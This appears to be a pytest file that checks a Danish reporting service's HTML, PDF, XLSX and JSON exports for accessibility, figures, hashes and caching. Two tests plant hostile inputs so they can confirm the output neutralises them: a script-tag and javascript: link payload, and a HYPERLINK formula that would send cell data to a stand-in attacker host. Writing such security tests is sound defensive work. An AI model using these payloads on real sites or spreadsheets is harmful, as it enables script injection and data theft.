"""The report's documents, read back: HTML, the PDF (text, structure tree, metadata), XLSX, JSON."""

from __future__ import annotations

import hashlib
import io
import re
import shutil
import subprocess
from typing import Any

import httpx
import pytest
from openpyxl import load_workbook
from pypdf import PdfReader
from sqlalchemy import select, update
from sqlmodel import col

from sammen.core.db import Database
from sammen.reports.models import ReportSnapshot
from tests.conftest import AuthHeaders
from tests.factories import demo
from tests.reports.helpers import SECRETARIAT_EDITOR, create, frozen

READER = demo("viewer", "aab")


def danish(value: float, decimals: int) -> str:
    """Danish number format, written out independently of the code under test."""
    whole, _, fraction = f"{value:,.{decimals}f}".partition(".")
    return whole.replace(",", ".") + ("," + fraction if fraction else "")


def squash(text: str) -> str:
    return " ".join(text.split())


async def draft_with_texts(client: httpx.AsyncClient, as_user: AuthHeaders) -> dict[str, Any]:
    headers = await as_user(SECRETARIAT_EDITOR)
    report = await create(client, headers, year=2031, cutoff="2025-12-31")
    path = f"/api/v1/reports/{report['id']}/sections/introduction"
    read = await client.get(path, headers=headers)
    written = await client.put(
        path,
        json={"body": "Året i **korte** træk.\n\n<script>alert(1)</script> [link](javascript:alert(1))"},
        headers={**headers, "If-Match": read.headers["etag"]},
    )
    assert written.status_code == 200, written.text
    return report


async def test_the_html_is_one_accessible_page_in_danish(
    client: httpx.AsyncClient, as_user: AuthHeaders
) -> None:
    report = await draft_with_texts(client, as_user)
    response = await client.get(f"/api/v1/reports/{report['id']}.html", headers=await as_user(READER))
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/html")
    assert "default-src 'none'" in response.headers["content-security-policy"]
    page = response.text
    assert '<html lang="da">' in page
    assert "<strong>korte</strong>" in page
    assert "&gt;" not in page.split("</style>")[0]  # the stylesheet is inlined as it is
    assert "<script>" not in page and "javascript:" not in page.replace("[link](javascript:alert(1))", "")
    assert "&lt;script&gt;" in page
    images = re.findall(r"<img [^>]*>", page)
    assert images and all(' alt="' in img for img in images)
    assert '<th scope="col">' in page and '<th scope="row">' in page
    content = (
        await client.get(f"/api/v1/reports/{report['id']}/content", headers=await as_user(READER))
    ).json()
    for goal in content["goals"]:
        assert f"Mål {goal['code']}: {goal['title']}" in page


async def test_every_chart_has_a_text_legend_naming_each_area_and_drawn_reference_line(
    client: httpx.AsyncClient, as_user: AuthHeaders
) -> None:
    report = await draft_with_texts(client, as_user)
    headers = await as_user(READER)
    page = (await client.get(f"/api/v1/reports/{report['id']}.html", headers=headers)).text
    content = (await client.get(f"/api/v1/reports/{report['id']}/content", headers=headers)).json()
    legends = re.findall(r'<ul class="legend">(.*?)</ul>', page, flags=re.S)
    charted = [
        ind
        for goal in content["goals"]
        for ind in goal["indicators"]
        if any(s["points"] for s in ind["series"])
    ]
    assert legends and len(legends) == len(charted)
    for ind, legend in zip(charted, legends, strict=True):
        labels = [squash(re.sub(r"<[^>]+>", "", item)) for item in re.findall(r"<li>(.*?)</li>", legend)]
        expected = [s["area_name"] for s in ind["series"]]
        expected += [ln["label"] for ln in ind["lines"] if ln["value"] is not None]
        assert labels[: len(expected)] == [squash(label) for label in expected], ind["code"]
        assert legend.count('<img src="data:image/svg+xml;base64,') == len(labels)  # a swatch each


async def test_the_pdf_reads_back_with_every_goal_danish_figures_and_a_structure_tree(
    client: httpx.AsyncClient, as_user: AuthHeaders
) -> None:
    report = await draft_with_texts(client, as_user)
    headers = await as_user(READER)
    response = await client.get(f"/api/v1/reports/{report['id']}.pdf", headers=headers)
    assert response.status_code == 200
    assert response.headers["content-type"] == "application/pdf"
    assert response.headers["content-disposition"] == 'attachment; filename="effektstatus-2031-partnere.pdf"'
    pdf = response.content
    content = (await client.get(f"/api/v1/reports/{report['id']}/content", headers=headers)).json()

    reader = PdfReader(io.BytesIO(pdf))
    root: Any = reader.trailer["/Root"]
    assert "/StructTreeRoot" in root, "the PDF is not tagged"
    assert bool(root["/MarkInfo"]["/Marked"])
    assert root["/Lang"] == "da"
    box = reader.pages[0].mediabox
    assert (round(float(box.width)), round(float(box.height))) == (595, 842)  # A4 in points
    xmp = root["/Metadata"].get_object().get_data().decode()
    assert 'pdfaid:part="3"' in xmp and 'pdfaid:conformance="A"' in xmp
    assert 'pdfuaid:part="1"' in xmp

    text = squash(_pdf_text(pdf))
    assert "Effektstatus 2031" in text and "Indhold" in text
    assert f"Side 2 af {len(reader.pages)}" in text
    for goal in content["goals"]:
        assert squash(f"Mål {goal['code']}: {goal['title']}") in text
        for ind in goal["indicators"]:
            status = ind["status"]
            if status["value"] is not None:
                figure = danish(status["value"], ind["decimals"])
                assert f"{figure} {ind['unit']}" in text.replace("\u00a0", " "), (ind["code"], figure)


def _pdf_text(pdf: bytes) -> str:
    if shutil.which("pdftotext"):
        done = subprocess.run(
            ["pdftotext", "-enc", "UTF-8", "-", "-"], input=pdf, capture_output=True, check=True
        )
        return done.stdout.decode()
    pytest.fail("pdftotext (poppler-utils) is missing: .ci/run installs it")


async def test_the_xlsx_has_a_sheet_per_goal_whose_numbers_equal_the_apis(
    client: httpx.AsyncClient, as_user: AuthHeaders
) -> None:
    report = await draft_with_texts(client, as_user)
    headers = await as_user(READER)
    response = await client.get(
        f"/api/v1/reports/{report['id']}.xlsx", params={"edition": "public"}, headers=headers
    )
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content), read_only=True)
    content = (
        await client.get(
            f"/api/v1/reports/{report['id']}/content", params={"edition": "public"}, headers=headers
        )
    ).json()
    assert book.sheetnames == ["Om rapporten", *(f"Mål {g['code']}" for g in content["goals"])]
    for goal in content["goals"]:
        rows = [(*r, *(None,) * 8)[:8] for r in book[f"Mål {goal['code']}"].iter_rows(values_only=True)]
        start = rows.index(("indikator", "navn", "område", "periode", "værdi", "enhed", "skjult", "mangler"))
        from_sheet = {(r[0], r[2], r[3]): (r[4], r[6]) for r in rows[start + 1 :]}
        from_api = {
            (ind["code"], s["area"], p["period"]): (p["value"], "skjult" if p["withheld"] else None)
            for ind in goal["indicators"]
            for s in ind["series"]
            for p in s["points"]
        }
        assert from_sheet == from_api, goal["code"]


async def test_the_xlsx_holds_a_formula_in_the_title_as_inert_text(
    client: httpx.AsyncClient, as_user: AuthHeaders
) -> None:
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
    headers = await as_user(SECRETARIAT_EDITOR)
    report = await create(client, headers, year=2031, cutoff="2025-12-31", title=formula)
    response = await client.get(f"/api/v1/reports/{report['id']}.xlsx", headers=headers)
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.value for c in cells if c.data_type == "f"]
    assert [(c.data_type, c.quotePrefix) for c in cells if c.value == formula] == [("s", True)]
    # numbers stay numbers, shown the Danish way with the indicator's decimals
    assert any(c.data_type == "n" and c.number_format.startswith("#,##0") for c in cells)


async def test_the_json_of_a_frozen_report_is_its_snapshot_and_the_hash_is_stable(
    client: httpx.AsyncClient, as_user: AuthHeaders
) -> None:
    report = await frozen(client, as_user)
    rid, digest = report["id"], report["freezing"]["content_hash"]
    headers = await as_user(READER)
    downloaded = await client.get(f"/api/v1/reports/{rid}.json", headers=headers)
    assert hashlib.sha256(downloaded.content).hexdigest() == digest == downloaded.headers["x-content-sha256"]
    first = (await client.get(f"/api/v1/reports/{rid}.html", headers=headers)).text
    # Data changes after the freeze do not reach the frozen report, its HTML or its hash.
    response = await client.put(
        "/api/v1/indicators/neet/observations",
        json={"items": [{"area": "hoeje-gladsaxe", "period": "2019", "value": 1.0, "status": "final"}]},
        params={"approve": "true"},
        headers=await as_user(demo("editor", "gladsaxe-kommune")),
    )
    assert response.status_code == 200
    second = (await client.get(f"/api/v1/reports/{rid}.html", headers=headers)).text
    assert first == second
    assert f"<code>{digest}</code>" in first
    again = await client.get(f"/api/v1/reports/{rid}.json", headers=headers)
    assert hashlib.sha256(again.content).hexdigest() == digest
    public = await client.get(f"/api/v1/reports/{rid}.json", params={"edition": "public"})
    assert hashlib.sha256(public.content).hexdigest() == report["freezing"]["public_hash"]


async def test_a_frozen_reports_pdf_is_typeset_once_and_kept(
    client: httpx.AsyncClient, as_user: AuthHeaders, database: Database
) -> None:
    report = await frozen(client, as_user)
    path = f"/api/v1/reports/{report['id']}.pdf"
    first = await client.get(path, params={"edition": "public"})  # anyone, once frozen
    assert first.status_code == 200
    assert first.headers["x-content-sha256"] == report["freezing"]["public_hash"]
    async with database.session() as session:
        stored = await session.scalar(
            select(col(ReportSnapshot.pdf)).where(
                col(ReportSnapshot.report_id) == report["id"], col(ReportSnapshot.edition) == "public"
            )
        )
        assert stored == first.content
        await session.execute(
            update(ReportSnapshot)
            .where(col(ReportSnapshot.report_id) == report["id"])
            .values(pdf=b"%PDF-kept")
        )
    second = await client.get(path, params={"edition": "public"})
    assert second.content == b"%PDF-kept"  # served from the snapshot, not typeset again
